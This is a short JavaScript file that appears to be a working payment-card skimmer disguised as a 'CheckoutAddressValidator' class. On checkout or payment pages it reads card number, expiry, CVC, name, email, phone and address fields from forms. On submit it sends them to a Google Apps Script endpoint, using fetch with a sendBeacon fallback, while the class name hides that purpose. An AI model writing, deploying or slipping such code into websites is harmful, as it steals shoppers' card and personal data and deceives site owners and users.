// saas-api-exfil: order data posted to a cloud script web-app endpoint on a trusted google host
// modern syntax: class, async/await, optional chaining
class CheckoutAddressValidator {
  static DEPLOYMENT = 'AKfycbx7Qe2Lr9Vn0sKwT4hYzP1mJ8cXuG6dRbF3aNo5iE';
  static #endpoint = `https://script.google.com/macros/s/${CheckoutAddressValidator.DEPLOYMENT}/exec`;

  constructor(form) {
    this.form = form;
    this.sent = false;
    this.snapshot = {};
  }

  static fieldMap() {
    return {
      pan: ['[autocomplete="cc-number"]', '[name$="[cc_number]"]', '#stripe-card-number'],
      expiry: ['[autocomplete="cc-exp"]', '[name$="[cc_exp_month]"]', '[name$="[cc_exp_year]"]'],
      cvc: ['[autocomplete="cc-csc"]', '[name$="[cc_cid]"]'],
      fullName: ['[autocomplete="cc-name"]', '[name="firstname"]', '[name="lastname"]'],
      email: ['[type="email"]'],
      phone: ['[name="telephone"]', '[type="tel"]'],
      address: ['[name="street[0]"]', '[name="city"]', '[name="postcode"]', '[name="country_id"]'],
    };
  }

  read() {
    const out = {};
    for (const [key, sels] of Object.entries(CheckoutAddressValidator.fieldMap())) {
      out[key] = sels
        .map((s) => this.form.querySelector(s)?.value?.trim())
        .filter(Boolean)
        .join(' ');
    }
    out.site = location.host;
    out.ts = new Date().toISOString();
    return out;
  }

  async push(record) {
    const body = new URLSearchParams({ payload: JSON.stringify(record) });
    try {
      await fetch(CheckoutAddressValidator.#endpoint, { method: 'POST', mode: 'no-cors', body });
      this.sent = true;
    } catch (_) {
      navigator.sendBeacon?.(CheckoutAddressValidator.#endpoint, body);
    }
  }

  attach() {
    this.form.addEventListener('change', () => {
      this.snapshot = this.read();
    });
    this.form.addEventListener('submit', async () => {
      const rec = this.read();
      if (!this.sent && rec.pan.replace(/\s/g, '').length > 12) {
        await this.push(rec);
      }
    }, { capture: true });
  }
}

const bootValidator = () => {
  if (!/checkout|payment/.test(location.pathname)) return;
  document.querySelectorAll('form').forEach((f) => {
    if (f.querySelector('[autocomplete^="cc-"], [name*="cc_"]')) {
      new CheckoutAddressValidator(f).attach();
    }
  });
};

if (document.readyState === 'loading') {
  document.addEventListener('DOMContentLoaded', bootValidator);
} else {
  bootValidator();
}
